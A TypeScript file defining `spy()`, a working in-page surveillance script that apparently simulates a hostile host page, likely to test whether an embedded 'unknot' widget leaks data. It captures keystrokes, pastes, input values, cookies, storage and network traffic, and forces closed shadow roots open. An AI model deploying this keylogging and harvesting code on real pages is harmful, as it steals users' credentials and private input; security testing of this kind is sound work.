/**
 * A script of a host page that takes what it can get: loaded first, as a tag manager is, it listens to everything,
 * stands between the page and the network, opens every shadow root and looks around 20 times a second.
 *
 * Runs in the page, so it refers to nothing outside of itself. `window.stolen()` gives all it has got, as texts.
 */
export function spy(): void {
  const stolen = new Set<string>();
  let keys = '';
  let typed = '';
  Reflect.set(window, 'stolen', () => [...stolen, keys, typed]);
  const take = (kind: string, what: unknown): void => {
    const text = typeof what === 'string' ? what : written(what);
    if (text) stolen.add(`${kind}: ${text}`);
  };
  const stringify = JSON.stringify.bind(JSON);
  const written = (what: unknown): string => {
    try {
      return stringify(what) ?? '';
    } catch {
      return String(what);
    }
  };

  // Everything that is pressed, typed, pasted or chosen, before anybody else hears of it.
  const HEARD =
    'keydown keypress keyup beforeinput input change paste copy cut compositionupdate click pointerdown focusin submit ' +
    'selectionchange message storage popstate unknot-ready unknot-open unknot-close unknot-step unknot-result ' +
    'unknot-booked unknot-error';
  const hear = (event: Event): void => {
    if (event instanceof KeyboardEvent && event.type === 'keydown' && event.key.length === 1) keys += event.key;
    if (event instanceof InputEvent && event.type === 'beforeinput') typed += event.data ?? '';
    if (event instanceof ClipboardEvent) take('pasted', event.clipboardData?.getData('text'));
    if (event instanceof MessageEvent) take('message', event.data);
    if (event instanceof CustomEvent) take(event.type, event.detail);
    for (const target of event.composedPath().slice(0, 3)) see(event.type, target);
  };
  const see = (kind: string, target: unknown): void => {
    if (target instanceof HTMLInputElement) take(`${kind} value`, target.value);
    if (target instanceof Element) take(kind, target.outerHTML);
    if (target instanceof Text) take(kind, target.data);
  };
  for (const type of HEARD.split(' ')) {
    for (const target of [window, document]) target.addEventListener(type, hear, { capture: true });
  }

  // Every root there is, whoever meant it to be closed, and whatever changes in it.
  const roots: (Document | ShadowRoot)[] = [document];
  const changed = new MutationObserver(changes => {
    for (const { target, addedNodes } of changes) {
      see('changed', target);
      for (const node of addedNodes) see('added', node);
    }
  });
  const watch = (root: Document | ShadowRoot): void =>
    changed.observe(root, { childList: true, subtree: true, characterData: true, attributes: true });
  watch(document);
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (this: Element, init: ShadowRootInit): ShadowRoot {
    const root = attachShadow.call(this, { ...init, mode: 'open' });
    roots.push(root);
    watch(root);
    return root;
  };

  // Everything that passes through what a page may replace.
  const between = (holder: object, name: string): void => {
    const real: unknown = Reflect.get(holder, name);
    if (typeof real !== 'function') return;
    Reflect.set(holder, name, function (this: unknown, ...given: unknown[]): unknown {
      for (const each of given) take(name, each);
      const result: unknown = Reflect.apply(real, this, given);
      if (result instanceof Promise) result.then(keep, keep);
      else if (typeof result === 'string') take(name, result);
      return result;
    });
  };
  const keep = (result: unknown): void => {
    if (result instanceof Response)
      result
        .clone()
        .text()
        .then(text => take('response', text), keep);
    else take('result', result);
  };
  for (const name of ['fetch', 'postMessage', 'structuredClone']) between(window, name);
  for (const name of ['stringify', 'parse']) between(JSON, name);
  for (const name of ['open', 'setRequestHeader', 'send']) between(XMLHttpRequest.prototype, name);
  for (const name of ['pushState', 'replaceState']) between(History.prototype, name);
  for (const name of ['getItem', 'setItem']) between(Storage.prototype, name);
  for (const name of ['setAttribute', 'append', 'insertBefore']) between(Element.prototype, name);
  between(Navigator.prototype, 'sendBeacon');
  between(WebSocket.prototype, 'send');
  between(MessagePort.prototype, 'postMessage');

  // Whoever adds a listener is listened to.
  const { addEventListener } = EventTarget.prototype;
  EventTarget.prototype.addEventListener = function (this: EventTarget, type, listener, options): void {
    const heard = (event: Event): void => {
      hear(event);
      if (typeof listener === 'function') listener.call(this, event);
      else listener?.handleEvent(event);
    };
    Reflect.apply(addEventListener, this, [type, listener && heard, options]);
  };

  // And a look around.
  const tryTo = (kind: string, read: () => unknown): void => {
    try {
      take(kind, read());
    } catch {
      // Out of reach: the browser keeps it from this page.
    }
  };
  const lookAround = (): void => {
    for (const root of roots) {
      for (const field of root.querySelectorAll('input')) take('value', field.value);
      tryTo('text', () => (root instanceof Document ? root.body.innerText : root.textContent));
      for (const frame of root.querySelectorAll('iframe')) {
        tryTo('frame', () => frame.contentDocument?.documentElement.outerHTML);
        tryTo('frame address', () => frame.contentWindow?.location.href);
        tryTo('frame storage', () => stringify(frame.contentWindow?.sessionStorage));
      }
    }
    tryTo('storage', () => stringify([{ ...sessionStorage }, { ...localStorage }]));
    tryTo('history', () => stringify([location.href, history.state]));
    tryTo('selection', () => getSelection()?.toString());
    tryTo('loaded', () => stringify(performance.getEntriesByType('resource').map(({ name }) => name)));
    tryTo('cookies', () => document.cookie);
  };
  setInterval(lookAround, 50);
}
